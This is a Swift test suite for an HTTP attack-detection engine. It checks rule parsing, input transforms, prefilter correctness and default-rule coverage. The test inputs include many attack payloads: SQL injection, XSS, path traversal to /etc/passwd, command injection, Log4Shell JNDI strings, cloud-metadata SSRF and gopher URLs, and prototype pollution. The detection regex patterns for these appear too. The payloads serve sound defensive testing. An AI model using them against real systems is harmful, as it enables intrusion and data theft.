import CZlib
@testable import Detection
import Foundation
import HTTP
import Testing
import TestSupport

func request(_ target: String, method: String = "GET", headers: [(String, String)] = [("Host", "shop.example")],
             body: String = "") -> HTTPRequest {
    HTTPRequest.synthesize(method: method, target: Array(target.utf8), headers: headers, body: Array(body.utf8))!
}

func ruleSet(_ json: String) throws -> RuleSet {
    try RuleSet(rules: RuleFile.parse(Array(json.utf8), fileName: "test.json"))
}

func matchedIDs(_ rules: RuleSet, _ request: HTTPRequest) -> [Int] {
    rules.evaluate(request, scratch: DetectionScratch()).map(\.rule.id)
}

func ruleFileError(_ json: String) -> String {
    do {
        _ = try RuleSet(rules: RuleFile.parse(Array(json.utf8), fileName: "rules.json"))
        return "no error"
    } catch {
        return error.description
    }
}

@Suite struct OriginalRuleFormatTests {
    /// The four rules of the original diffai, exactly as they were written.
    static let original = """
    [{"url":"script","alert":"[!] Script tag found in url!"},
     {"url":"UNION","alert":"[!] UNION operator found in url!"},
     {"content":"<script>","alert":"[!] Possible XSS Attack."},
     {"headers":{"Host":"localhost"},"alert":"Test HEADER"}]
    """

    @Test func eachOriginalRuleFiresOnItsField() throws {
        let rules = try ruleSet(Self.original)
        let base = RuleFile.autoIDBase
        #expect(matchedIDs(rules, request("/js/script.js")) == [base])
        #expect(matchedIDs(rules, request("/a?x=1 UNION SELECT 2")) == [base + 1])
        #expect(matchedIDs(rules, request("/post", method: "POST", body: "c=<script>alert(1)</script>")) == [base + 2])
        #expect(matchedIDs(rules, request("/", headers: [("Host", "localhost:8080")])) == [base + 3])
    }

    @Test func originalMatchingIsCaseSensitiveSubstring() throws {
        let rules = try ruleSet(Self.original)
        #expect(matchedIDs(rules, request("/a?x=union select")).isEmpty)
        #expect(matchedIDs(rules, request("/SCRIPT")).isEmpty)
        #expect(matchedIDs(rules, request("/post", method: "POST", body: "<SCRIPT>")).isEmpty)
        #expect(matchedIDs(rules, request("/", headers: [("Host", "LOCALHOST")])).isEmpty)
    }

    @Test func urlIsSchemeHostAndTarget() throws {
        let rules = try ruleSet(#"[{"url":"http://shop.example/cart?","alert":"u"}]"#)
        #expect(matchedIDs(rules, request("/cart?id=1")).count == 1)
        #expect(matchedIDs(rules, request("/cart")).isEmpty)
    }

    @Test func headerNamesAreCaseInsensitiveAndAllConditionsMustHold() throws {
        let rules = try ruleSet(#"[{"url":"admin","headers":{"user-agent":"curl","X-Token":"t"},"alert":"both"}]"#)
        #expect(matchedIDs(rules, request("/admin", headers: [("Host", "h"), ("User-Agent", "curl/8"), ("x-token", "abc-t")])).count == 1)
        #expect(matchedIDs(rules, request("/admin", headers: [("Host", "h"), ("User-Agent", "curl/8")])).isEmpty)
        #expect(matchedIDs(rules, request("/public", headers: [("Host", "h"), ("User-Agent", "curl/8"), ("X-Token", "t")])).isEmpty)
    }

    @Test func oneAlertPerRequestAndRule() throws {
        let rules = try ruleSet(#"[{"url":"a","alert":"many a"}]"#)
        // "a" occurs many times in the URL: still one match.
        #expect(matchedIDs(rules, request("/aaaa?a=a&b=a")).count == 1)
    }
}

@Suite struct RuleFeatureTests {
    func single(_ condition: String) throws -> RuleSet {
        try ruleSet(#"[{"id": 7, "alert": "t", "conditions": [\#(condition)]}]"#)
    }

    func fires(_ condition: String, _ request: HTTPRequest) throws -> Bool {
        try !matchedIDs(single(condition), request).isEmpty
    }

    /// A method rule sees what frameworks honour: override headers and `_method` (EVASION 16).
    @Test func methodOverridesCountAsTheMethod() throws {
        let rule = #"{"target":"method","operator":"equals","value":"DELETE"}"#
        #expect(try fires(rule, request("/orders/7", method: "DELETE")))
        #expect(try !fires(rule, request("/orders/7", method: "POST")))
        #expect(try fires(rule, request("/orders/7", method: "POST", headers: [("Host", "h"), ("X-HTTP-Method-Override", "DELETE")])))
        #expect(try fires(rule, request("/orders/7?_method=DELETE", method: "POST")))
        #expect(try fires(rule, request("/orders/7", method: "POST", headers: [("Host", "h"), ("Content-Type", "application/x-www-form-urlencoded")],
                                        body: "_method=DELETE&id=7")))
        #expect(try !fires(rule, request("/orders/7?method=DELETE", method: "POST")))
    }

    @Test func operators() throws {
        let r = request("/shop/cart?id=42")
        #expect(try fires(#"{"target":"path","operator":"equals","value":"/shop/cart"}"#, r))
        #expect(try !fires(#"{"target":"path","operator":"equals","value":"/shop"}"#, r))
        #expect(try fires(#"{"target":"path","operator":"startsWith","value":"/shop/"}"#, r))
        #expect(try fires(#"{"target":"path","operator":"endsWith","value":"/cart"}"#, r))
        #expect(try fires(#"{"target":"query","operator":"contains","value":"id=4"}"#, r))
        #expect(try fires(#"{"target":"query","operator":"regex","value":"^id=\\d+$"}"#, r))
        #expect(try !fires(#"{"target":"query","operator":"regex","value":"^id=[a-z]+$"}"#, r))
    }

    @Test func negationAndCaseInsensitivity() throws {
        let r = request("/Admin/Panel")
        #expect(try fires(#"{"target":"path","value":"admin","caseInsensitive":true}"#, r))
        #expect(try !fires(#"{"target":"path","value":"admin"}"#, r))
        #expect(try fires(#"{"target":"path","operator":"regex","value":"^/admin","caseInsensitive":true}"#, r))
        #expect(try fires(#"{"target":"path","value":"login","negate":true}"#, r))
        #expect(try !fires(#"{"target":"path","value":"Panel","negate":true}"#, r))
        // Negation on a multi-valued target: no value may match.
        let rules = try ruleSet(#"[{"id":1,"alert":"no json ct","conditions":[{"target":"method","operator":"equals","value":"POST"},{"target":"header:content-type","value":"json","negate":true}]}]"#)
        #expect(matchedIDs(rules, request("/x", method: "POST", headers: [("Host", "h"), ("Content-Type", "text/plain")], body: "a")).count == 1)
        #expect(matchedIDs(rules, request("/x", method: "POST", headers: [("Host", "h"), ("Content-Type", "application/json")], body: "{}")).isEmpty)
    }

    @Test func argumentsFromEverySource() throws {
        let cond = #"{"target":"args","value":"evil"}"#
        #expect(try fires(cond, request("/a?x=1&y=ev%69l")))
        #expect(try fires(cond, request("/a", method: "POST", headers: [("Host", "h"), ("Content-Type", "application/x-www-form-urlencoded")], body: "q=%65vil+thing")))
        #expect(try fires(cond, request("/a", method: "POST", headers: [("Host", "h"), ("Content-Type", "application/json")], body: #"{"a":{"b":["ok","evil"]}}"#)))
        let multipart = "--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"x.php\"\r\nContent-Type: text/plain\r\n\r\nsome evil\r\n--B--\r\n"
        let upload = request("/u", method: "POST", headers: [("Host", "h"), ("Content-Type", "multipart/form-data; boundary=B")], body: multipart)
        #expect(try fires(cond, upload))
        #expect(try fires(#"{"target":"files","operator":"endsWith","value":".php"}"#, upload))
        #expect(try fires(#"{"target":"arg_names","operator":"equals","value":"f"}"#, upload))
        // JSON sent as text/plain is still read as JSON (the declared type lies).
        #expect(try fires(cond, request("/a", method: "POST", headers: [("Host", "h"), ("Content-Type", "text/plain")], body: #"{"k":"evil"}"#)))
        #expect(try !fires(cond, request("/a?x=good")))
    }

    @Test func namedArgumentCookieAndHeaderTargets() throws {
        let r = request("/p?ID=5&name=bob", headers: [("Host", "h"), ("Cookie", "session=abc; role=admin"), ("X-Forwarded-For", "10.0.0.9"), ("User-Agent", "Mozilla/5.0")])
        #expect(try fires(#"{"target":"arg:id","operator":"equals","value":"5"}"#, r))
        #expect(try !fires(#"{"target":"arg:name","operator":"equals","value":"5"}"#, r))
        #expect(try fires(#"{"target":"cookie:role","operator":"equals","value":"admin"}"#, r))
        #expect(try fires(#"{"target":"cookies","value":"abc"}"#, r))
        #expect(try fires(#"{"target":"cookie_names","operator":"equals","value":"session"}"#, r))
        #expect(try fires(#"{"target":"header:x-forwarded-for","operator":"startsWith","value":"10."}"#, r))
        #expect(try fires(#"{"target":"headers","value":"10.0.0.9"}"#, r))
        #expect(try fires(#"{"target":"header_names","operator":"equals","value":"X-Forwarded-For"}"#, r))
        #expect(try fires(#"{"target":"user_agent","value":"Mozilla"}"#, r))
        #expect(try fires(#"{"target":"method","operator":"equals","value":"GET"}"#, r))
        #expect(try fires(#"{"target":"host","operator":"equals","value":"h"}"#, r))
        #expect(try fires(#"{"target":"uri","operator":"equals","value":"/p?ID=5&name=bob"}"#, r))
    }

    @Test func parameterPollutionJoinsRepeatedValues() throws {
        #expect(try fires(#"{"target":"args","operator":"regex","value":"uni.*on select","caseInsensitive":true}"#, request("/a?q=UNI&q=ON%20SELECT")))
        #expect(try !fires(#"{"target":"args","operator":"regex","value":"uni.*on select","caseInsensitive":true}"#, request("/a?q=UNI&r=ON%20SELECT")))
        #expect(try fires(#"{"target":"args","value":"UNI,ON SELECT"}"#, request("/a?q=UNI&q=ON%20SELECT")))
    }

    @Test func anomaliesTarget() throws {
        let smuggled = HTTPRequest.synthesize(method: "POST", target: Array("/".utf8),
                                              headers: [("Host", "h"), ("Transfer-Encoding", "chunked"), ("Content-Length", "3")])!
        #expect(try fires(#"{"target":"anomalies","operator":"equals","value":"content_length_with_transfer_encoding"}"#, smuggled))
        #expect(try !fires(#"{"target":"anomalies","operator":"equals","value":"duplicate_host"}"#, smuggled))
    }

    @Test func multipleTargetsInOneCondition() throws {
        let cond = #"{"target":"header:referer|args","value":"<x>"}"#
        #expect(try fires(cond, request("/", headers: [("Host", "h"), ("Referer", "<x>")])))
        #expect(try fires(cond, request("/?a=<x>")))
        #expect(try !fires(cond, request("/<x>")))
    }

    @Test(arguments: [
        ("urlDecode", "a%41+b%zz%", "aA b%zz%"),
        ("urlDecodeUni", "%u0041%uFF1Cscript%uff1e%2f", "A<script>/"),
        ("htmlEntityDecode", "&lt;a&#62;&#x3C;b&#X3e&amp;&quot;&bogus;", "<a><b>&\"&bogus;"),
        ("lowercase", "SeLeCt ÄB", "select Äb"),
        ("compressWhitespace", "a \t\n\r b  c", "a b c"),
        ("removeWhitespace", "a \t\n b", "ab"),
        ("removeNulls", "a\u{0}b\u{0}", "ab"),
        ("normalizePath", "/a/./b//c/../d\\e/", "/a/b/d/e/"),
        ("normalizePath", "/x/../../../etc/passwd", "/../../etc/passwd"),
        ("removeComments", "UN/**/ION SEL/*x*/ECT/* open", "UNION SELECT"),
        ("replaceComments", "SELECT/**/password/**/FROM", "SELECT password FROM"),
    ])
    func transform(_ name: String, _ input: String, _ expected: String) {
        let transform = Transform(rawValue: name)!
        #expect(String(decoding: Transforms.apply(transform, Array(input.utf8)), as: UTF8.self) == expected)
    }

    /// Evaluation skips a transform when the value's traits say it would change nothing, and
    /// treats "returned false" as "unchanged": both must hold for any bytes, or a rule would
    /// miss what the transform would have revealed.
    @Test func traitsAndUnchangedResultsAreSound() {
        var random = SeededRandom(seed: TestSeed.value("traits and unchanged results"))
        let alphabet = Array("%+&#;/.\\*xX0aA; \t\u{0}lt;gt".utf8) + [0xC0, 0xAF, 0xEF, 0xBC, 0xA1, 0xC3, 0xA9, 0xA0]
        var inputs: [[UInt8]] = ["", ".", "./a", "a/.", "/a/b", "100%", "&page=2", "caf\u{e9}", "a  b", "a\tb", "/*", "//",
                                 "../;;/\u{AF}t;", "../x", "../../a/"].map { Array($0.utf8) }
        for _ in 0..<3000 {
            inputs.append((0..<Int.random(in: 1...12, using: &random)).map { _ in alphabet.randomElement(using: &random)! })
        }
        for input in inputs {
            let traits = input.withUnsafeBytes { ByteTraits.of($0) }
            for transform in Transform.allCases {
                var out: [UInt8] = [0x7E]
                let changed = input.withUnsafeBufferPointer { Transforms.apply(transform, $0, into: &out) }
                if !changed { #expect(out == [0x7E], "\(transform) left output behind for \(input)") }
                if changed { #expect(Array(out.dropFirst()) != input, "\(transform) reported a change that is none for \(input)") }
                if traits.isDisjoint(with: ByteTraits.trigger(of: transform)) {
                    #expect(!changed, "\(transform) changes \(input) although its traits say it cannot")
                }
            }
        }
    }

    /// normalizePath works in place; this is its definition, written the plain way.
    @Test func normalizePathMatchesItsDefinition() {
        func reference(_ input: [UInt8]) -> [UInt8] {
            let slashed = input.map { $0 == 0x5C ? 0x2F : $0 }
            var segments: [ArraySlice<UInt8>] = []
            var leadingParents = 0
            for segment in slashed.split(separator: 0x2F, omittingEmptySubsequences: true) {
                if segment.elementsEqual([0x2E]) { continue }
                if segment.elementsEqual([0x2E, 0x2E]) {
                    if segments.isEmpty { leadingParents += 1 } else { segments.removeLast() }
                    continue
                }
                segments.append(segment)
            }
            var out: [UInt8] = slashed.first == 0x2F ? [0x2F] : []
            for _ in 0..<leadingParents { out += [0x2E, 0x2E, 0x2F] }
            out += Array(segments.joined(separator: [0x2F]))
            if slashed.last == 0x2F && !segments.isEmpty { out.append(0x2F) }
            return out
        }
        var random = SeededRandom(seed: TestSeed.value("path normalisation"))
        let alphabet = Array("/\\..ab".utf8)
        for _ in 0..<5000 {
            let input = (0..<Int.random(in: 1...14, using: &random)).map { _ in alphabet.randomElement(using: &random)! }
            var out: [UInt8] = []
            let changed = input.withUnsafeBufferPointer { Transforms.normalizePath($0, into: &out) }
            #expect((changed ? out : input) == reference(input), "\(String(decoding: input, as: UTF8.self))")
        }
    }

    @Test func normalizeUnicodeFoldsOverlongAndFullWidth() {
        #expect(Transforms.apply(.normalizeUnicode, [0x2E, 0x2E, 0xC0, 0xAF, 0x61]) == Array("../a".utf8))
        #expect(Transforms.apply(.normalizeUnicode, Array("ｓｅｌｅｃｔ".utf8)) == Array("select".utf8))
        #expect(Transforms.apply(.urlDecodeUni, Array("..%u2215etc".utf8)) == Array("../etc".utf8))
    }

    @Test func transformsApplyInOrder() throws {
        let cond = #"{"target":"args","operator":"contains","value":"<script","transforms":["urlDecode","htmlEntityDecode","lowercase"]}"#
        #expect(try fires(cond, request("/a?q=%26lt%3BSCRIPT%26gt%3B")))
        #expect(try !fires(#"{"target":"args","operator":"contains","value":"<script","transforms":["lowercase"]}"#, request("/a?q=%26lt%3BSCRIPT")))
    }

    @Test func bodyTailIsInspectedWhenTheBodyIsCut() throws {
        var limits = HTTPParserLimits()
        limits.maxInspectedBodyBytes = 64
        let sink = CollectingSink()
        let analyzer = HTTPConnectionAnalyzer(connection: .init(id: 1, client: .init(address: .init(ipv4: 1), port: 1), server: .init(address: .init(ipv4: 2), port: 80)), limits: limits, sink: sink)
        let body = String(repeating: "x", count: 10_000) + "<script>"
        let wire = "POST / HTTP/1.1\r\nHost: h\r\nContent-Length: \(body.utf8.count)\r\n\r\n" + body
        _ = Array(wire.utf8).withUnsafeBytes { analyzer.receive($0, fromClient: true, at: .zero) }
        let r = try #require(sink.requests.first?.request)
        #expect(r.bodyTruncated)
        #expect(try fires(#"{"target":"body","value":"<script>"}"#, r))
    }

    @Test func prefilterNeverChangesTheResult() throws {
        // Every rule alone and all together must agree: the prefilter only skips work.
        let rules = try RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path)
        let together = try RuleSet(rules: rules)
        let alone = try rules.map { try RuleSet(rules: [$0]) }
        let samples = ["/a?id=1 union/**/select 1", "/x?f=../../etc/passwd", "/q?c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
                       "/?cmd=;cat /etc/passwd", "/index.html", "/p?x=${jndi:ldap://e/a}", "/page?name=O'Brien",
                       "/s?q=select+your+plan", "/a?u=http://evil/shell.txt?"]
        let scratch = DetectionScratch()
        for target in samples {
            let r = request(target, headers: [("Host", "h"), ("User-Agent", "Nikto/2.5")])
            let expected = alone.enumerated().flatMap { index, set in set.evaluate(r, scratch: scratch).map { _ in rules[index].id } }
            #expect(together.evaluate(r, scratch: scratch).map(\.rule.id) == expected, "\(target)")
        }
    }

    @Test func ahoCorasickFindsOverlappingLiteralsIgnoringCase() {
        let automaton = AhoCorasick(patterns: [Array("he".utf8), Array("she".utf8), Array("hers".utf8), Array("SEL".utf8)])
        var found: [Int] = []
        Array("uSHErs Select".utf8).withUnsafeBytes { automaton.table.scan($0) { found.append($0) } }
        #expect(found.sorted() == [0, 1, 2, 3])
    }

    @Test(arguments: [
        ("union\\s+select", "select" as String?),
        ("(?i)<script[\\s>]", "<script"),
        ("\\$\\{jndi:", "${jndi:"),
        ("a|b", nil),
        ("foo(bar)?bazz", "bazz"),
        ("colou?r", "colo"),
        ("/etc/passwd", "/etc/passwd"),
    ])
    func regexLiteralExtraction(_ pattern: String, _ expected: String?) {
        #expect(RegexLiteral.required(in: pattern) == expected)
    }

    @Test(arguments: [
        ("(sleep|benchmark)\\s*\\(", ["benchmark", "sleep"] as [String]?),
        ("['\"`]\\s*(or|and)\\s", ["and", "or"]),
        ("['\"`]\\s*--", ["--"]),
        ("['\"]\\s*[=<>]", ["\"", "'"]),
        ("(a|b)?cd", ["cd"]),
        ("x(ab|c?)y", ["x"]),  // either side alone is certain; the first of equals is kept
        ("\\x41BC", ["abc"]),
        ("\\p{L}+", nil),
        ("\\p{L}{2}xyz", ["xyz"]),
        ("(?x) a b", nil),
        ("\\Qa|b\\E", nil),
        ("[^a]bc", ["bc"]),
        ("[a-z]+", nil),
        ("(?=foo)bar", ["bar"]),
        ("ab{2,}c", ["ab"]),
        ("\\$\\{", ["${"]),
    ])
    func regexRequirementSets(_ pattern: String, _ expected: [String]?) {
        #expect(RegexLiteral.requiredSet(in: pattern)?.map { String(decoding: $0, as: UTF8.self) } == expected, "\(pattern)")
    }

    @Test func requirementAnalysisSurvivesAnyPattern() {
        // Rule files are compiled by PCRE2 first, but the analysis must not trust that.
        var generator = SeededRandom(seed: TestSeed.value("regex requirement analysis"))
        let alphabet = Array("ab\\()[]{}|?*+^$.-,:=!<>'\"`0129xpQEkgc ".utf8)
        for _ in 0..<3_000 {
            let length = Int.random(in: 0...24, using: &generator)
            let bytes = (0..<length).map { _ in alphabet[Int.random(in: 0..<alphabet.count, using: &generator)] }
            _ = RegexLiteral.requiredSet(in: String(decoding: bytes, as: UTF8.self))
        }
    }

    /// The prefilter may only skip rules that cannot match: over attacks and ordinary
    /// requests, the default rules give the same verdicts with it and without it.
    @Test func prefilterAgreesWithFullEvaluation() throws {
        let rules = try RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path)
        let filtered = try RuleSet(rules: rules)
        let full = try RuleSet(rules: rules, usePrefilter: false)
        var targets = ["/a?id=1' or '1'='1", "/a?id=1 union/**/select 1", "/x?f=../../etc/passwd", "/?cmd=;cat /etc/passwd",
                       "/q?c=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E", "/p?x=${jndi:ldap://e/a}", "/page?name=O'Brien",
                       "/s?q=select+your+plan", "/a?u=http://evil/shell.txt?", "/a?q=1;sleep(5)--", "/a?q=%27%20AND%20SLEEP(5)%23",
                       "/a?x=`id`", "/a?x=$(whoami)", "/a?t=&#x3c;script", "/b?q=waitfor delay '0:0:5'", "/index.html",
                       "/t?n={{7*7}}", "/t?n=${3*3}", "/f?u=http://169.254.169.254/", "/f?u=gopher://x/_a", "/u?id=1;drop table t",
                       "/l?u[$ne]=a", "/l?q=*)(uid=*", "/a/..;/b", "/?class.module.classLoader.x=1", "/a?x=%25{(#_=1)}",
                       "/a?o=rO0ABXNy", "/a?b=%AC%ED%00%05sr", "/r?u=%0d%0aLocation:%20x", "/a?__proto__[x]=1"]
        for name in ["badqueries.txt", "goodqueries.txt"] {
            for directory in ["Dataset", "../shared/Dataset"] {
                let path = TestPaths.packageRoot.appendingPathComponent(directory).appendingPathComponent(name).path
                guard let text = try? String(contentsOfFile: path, encoding: .utf8) else { continue }
                targets += text.split(whereSeparator: \.isNewline).prefix(3_000).map { $0.hasPrefix("/") ? String($0) : "/" + $0 }
                break
            }
        }
        let scratch = DetectionScratch()
        var disagreements: [String] = []
        var alerts = 0
        for target in targets {
            let r = request(target, headers: [("Host", "h"), ("User-Agent", "Mozilla/5.0"), ("Cookie", "q=" + target), ("Referer", "http://h" + target)],
                            body: String(target.drop { $0 != "?" }.dropFirst()))
            let a = filtered.evaluate(r, scratch: scratch).map(\.rule.id)
            let b = full.evaluate(r, scratch: scratch).map(\.rule.id)
            alerts += b.count
            if a != b { disagreements.append("\(target): \(a) vs \(b)") }
        }
        #expect(disagreements.isEmpty, "\(disagreements.prefix(5))")
        #expect(alerts > 0)
    }
}

@Suite struct RuleFileErrorTests {
    @Test func malformedJSONNamesLineAndColumn() {
        let message = ruleFileError("[\n  {\"alert\": \"a\",\n    \"url\" \"x\"}\n]")
        #expect(message == "rules.json:3:11: expected ':' after member name \"url\"")
        #expect(ruleFileError("[{\"alert\": \"a\", \"url\": \"x\",}]").hasPrefix("rules.json:1:28: expected a member name"))
        #expect(ruleFileError("").hasPrefix("rules.json:1:1: unexpected end of file"))
    }

    @Test func unknownFieldNamesRuleAndField() {
        #expect(ruleFileError(#"[{"alert":"a","url":"x"},{"id":12,"alert":"b","urll":"x"}]"#)
                == "rules.json: rule 1 (id 12): field urll: unknown field; a rule has alert, id, severity, action, category, rev, enabled, paranoia, description, reference, conditions, headers, url, content, method")
    }

    @Test func unknownOperatorTargetAndTransform() {
        #expect(ruleFileError(#"[{"id":3,"alert":"a","conditions":[{"target":"args","operator":"like","value":"x"}]}]"#)
                .hasPrefix("rules.json: rule 0 (id 3): field conditions[0].operator: unknown operator 'like'"))
        #expect(ruleFileError(#"[{"alert":"a","conditions":[{"target":"argz","value":"x"}]}]"#)
                .hasPrefix("rules.json: rule 0 (no id): field conditions[0].target: unknown target 'argz'"))
        #expect(ruleFileError(#"[{"id":4,"alert":"a","conditions":[{"target":"args","value":"x","transforms":["rot13"]}]}]"#)
                .hasPrefix("rules.json: rule 0 (id 4): field conditions[0].transforms: unknown transform 'rot13'"))
    }

    /// Every spelling in the target table parses back to its kind and prints canonically; the
    /// error lists every kind; the README documents each one.
    @Test func targetNamesComeFromOneTable() throws {
        let readme = try String(contentsOf: TestPaths.packageRoot.appendingPathComponent("README.md"), encoding: .utf8)
        for kind in RuleTarget.Kind.allCases {
            let spelling = kind.spelling
            for name in spelling.names {
                let written = spelling.selects ? name.uppercased() + ":Some-Name" : name.uppercased()
                let target = try #require(RuleTarget(name: written), "\(written)")
                #expect(target.kind == kind)
                #expect(RuleTarget(name: target.name) == target, "\(target.name) prints what parses back")
            }
            let printed = spelling.selects ? "\(spelling.names[0]):NAME" : spelling.names[0]
            #expect(RuleTarget.documentedNames.contains(printed))
            #expect(readme.contains("`\(printed)`"), "README documents \(printed)")
        }
        #expect(RuleTarget(name: "header:X-Forwarded-For")?.selector == "x-forwarded-for")
        #expect(RuleTarget(name: "cookie:SessionID")?.selector == "SessionID", "cookie names keep their case")
        #expect(RuleTarget(name: "arg:") == nil && RuleTarget(name: "argz") == nil && RuleTarget(name: "url:x") == nil)
    }

    /// The original format's header map may name the empty header (found by the rules
    /// fuzzer: it trapped the loader): it loads, and that condition matches nothing.
    @Test func emptyHeaderNameInOriginalFormatLoads() throws {
        let rules = try ruleSet(#"[{"url": "evil", "alert": "x"}, {"headers": {"": "localhost"}, "alert": "yz"}]"#)
        #expect(rules.rules.count == 2)
        #expect(matchedIDs(rules, request("/evil", headers: [("Host", "localhost")])).count == 1)
    }

    @Test func badRegexShowsPatternAndError() {
        let message = ruleFileError(#"[{"id":9,"alert":"a","conditions":[{"target":"args","operator":"regex","value":"(unclosed"}]}]"#)
        #expect(message.hasPrefix("rules.json: rule 0 (id 9): field conditions[0].value: invalid regex '(unclosed': missing closing parenthesis"))
    }

    @Test func otherMistakes() {
        #expect(ruleFileError(#"{"alert":"a"}"#) == "rules.json: the file must hold a JSON array of rules, found an object")
        #expect(ruleFileError(#"[{"url":"x"}]"#).contains("field alert: is missing"))
        #expect(ruleFileError(#"[{"id":5,"alert":"a","url":"x"},{"id":5,"alert":"b","url":"y"}]"#).contains("id 5 is already used by rule 0"))
        #expect(ruleFileError(#"[{"id":5,"alert":"a","severity":"urgent","url":"x"}]"#).contains("field severity: must be one of low, medium, high, critical"))
        #expect(ruleFileError(#"[{"alert":"a"}]"#).contains("the rule has no condition"))
        #expect(ruleFileError(#"[{"alert":"a","url":1}]"#).contains("field url: must be a string"))
    }

    @Test func missingFileIsExplained() {
        #expect(throws: RuleFileError.self) { try RuleFile.load(path: "/nonexistent/rules.json") }
        do { _ = try RuleFile.load(path: "/nonexistent/rules.json") } catch {
            #expect(error.description.hasPrefix("/nonexistent/rules.json: cannot read the rule file"))
        }
    }
}

/// The request view keeps its byte arena between requests (one per scratch, so per thread):
/// whatever came before, a request's verdict must be the one a fresh scratch gives.
@Suite struct ReusedScratchTests {
    @Test func oneScratchGivesTheSameVerdictsAsFreshOnes() throws {
        let rules = try RuleSet(rules: RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path))
        let filler = String(repeating: "a=b&", count: 150_000)  // 600 KB: the arena must grow
        let requests = [
            request("/upload", method: "POST", headers: [("Host", "h"), ("Content-Type", "application/x-www-form-urlencoded")],
                    body: filler + "q=1%27%20UNION%20SELECT%20password%20FROM%20users--"),
            request("/index.html"),
            request("/p?name=O%27Brien&x=1", headers: [("Host", "h"), ("Cookie", "session=abc; theme=dark"), ("User-Agent", "Mozilla/5.0")]),
            request("/x", headers: [("Host", "h"), ("Cookie", "id=1 UNION SELECT 1,2--; a=%3Cscript%3Ealert(1)%3C/script%3E")]),
            request("/static/app.js?v=3"),
            request("/a?f=..%2f..%2f..%2fetc%2fpasswd"),
            request("/index.html"),
        ]
        let shared = DetectionScratch()
        var sawAttack = false
        for r in requests {
            let reused = rules.evaluate(r, scratch: shared).map(\.rule.id)
            let fresh = rules.evaluate(r, scratch: DetectionScratch()).map(\.rule.id)
            #expect(reused == fresh, "\(r.target)")
            if r.target.hasPrefix("/index.html") || r.target.hasPrefix("/static") { #expect(reused.isEmpty, "\(r.target)") }
            sawAttack = sawAttack || !reused.isEmpty
        }
        #expect(sawAttack)
        // The attack at the end of the 600 KB body is found.
        #expect(!rules.evaluate(requests[0], scratch: shared).isEmpty)
    }
}

/// Attack families the shared datasets hardly contain (template injection, metadata SSRF,
/// stacked queries after a number) are caught by the default rules, and look-alikes from
/// ordinary traffic are not.
@Suite struct DefaultRuleCoverageTests {
    static let rules = try! RuleSet(rules: RuleFile.load(path: TestPaths.packageRoot.appendingPathComponent("rules.json").path))

    @Test(arguments: [
        ("/page?name={{7*7}}", 8004),
        ("/p?x=%7B%7Bconfig.__class__.__init__.__globals__%7D%7D", 8004),
        ("/p?x=${7*7}", 8004),
        ("/p?tpl=<%25=%20File.read('/etc/hosts')%20%25>", 8004),
        ("/fetch?url=http://169.254.169.254/latest/meta-data/iam/", 8005),
        ("/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F", 8005),
        ("/fetch?u=gopher://127.0.0.1:6379/_FLUSHALL", 8005),
        ("/img?src=file:///etc/shadow", 8005),
        ("/api/users?id=1;DROP TABLE users", 1005),
        ("/api/users?id=7%3B%20delete%20from%20orders", 1005),
        ("/a?id=1';drop table users--", 1005),
        ("/x?q=1' AND extractvalue(1,concat(0x7e,version()))-- -", 1006),
        ("/login?user[$ne]=admin&pass[$ne]=x", 1010),
        ("/search?q=*)(uid=*))(|(uid=*", 1011),
        ("/app/..;/admin/console", 3004),
        ("/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", 4008),
        ("/index.action?redirect:%25{(#_='multipart/form-data')}", 4009),
        ("/api?obj=rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA", 4010),
        ("/redirect?url=%0d%0aSet-Cookie:%20session=evil", 8006),
        ("/api?__proto__[isAdmin]=true", 8007),
        ("/api?constructor[prototype][isAdmin]=true", 8007),
    ])
    func catches(_ target: String, _ rule: Int) {
        let ids = Self.rules.evaluate(request(target), scratch: DetectionScratch()).map(\.rule.id)
        #expect(ids.contains(rule), "\(target): \(ids)")
    }

    @Test(arguments: [
        "/docs/templates?q=curly+braces+{{name}}",
        "/calc?expr=7*7&lang=en",
        "/fetch?url=https://cdn.example.com/img/169.png",
        "/files?name=profile.jpg&path=/uploads/2024",
        "/list?ids=1;2;3&sort=updated",
        "/blog/how-to-drop-a-table-safely?page=2",
        "/search?q=delete+from+cart+not+working",
        "/p?price=100%25&tag=%3C%25-off",
        "/api/products?sort[price]=asc&filter[name]=shoe&page[size]=20",
        "/search?q=(a*b)+c&lang=en",
        "/docs/javascript/Object.prototype.toString",
        "/p?note=line+one%0D%0Aline+two",
        "/p?amount=$100&ref=rO0",
        "/learn/java/class-loader-module-basics",
        "/p?tpl=%25{name}+at+%25{time}",
    ])
    func passes(_ target: String) {
        let ids = Self.rules.evaluate(request(target), scratch: DetectionScratch()).map(\.rule.id)
        #expect(ids.isEmpty, "\(target): \(ids)")
    }
}

/// SQL injection sent in headers (User-Agent, Referer, X-Forwarded-For: values that
/// applications log to a database) is caught; a browser's ordinary headers are not flagged.
@Suite struct HeaderInjectionTests {
    static let browser: [(String, String)] = [
        ("Host", "shop.example"),
        ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"),
        ("Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"),
        ("Accept-Language", "en-US,en;q=0.9,de;q=0.8"), ("Accept-Encoding", "gzip, deflate, br"),
        ("sec-ch-ua", "\"Not_A Brand\";v=\"8\", \"Chromium\";v=\"120\", \"Google Chrome\";v=\"120\""),
        ("sec-ch-ua-platform", "\"Windows\""), ("Referer", "https://www.google.com/search?q=union+station+select+hotels"),
        ("Cookie", "session=5f2c9a; cart=%5B%7B%22id%22%3A12%7D%5D; consent=\"yes\"; theme=dark"),
        ("If-None-Match", "W/\"5e1-abc\""), ("X-Forwarded-For", "203.0.113.7, 10.0.0.2"),
    ]

    @Test func browserHeadersAreQuiet() {
        let ids = DefaultRuleCoverageTests.rules.evaluate(request("/index.html", headers: Self.browser), scratch: DetectionScratch()).map(\.rule.id)
        #expect(ids.isEmpty, "\(ids)")
    }

    @Test(arguments: [
        ("User-Agent", "Mozilla/5.0' AND SLEEP(5)-- ", 1004),
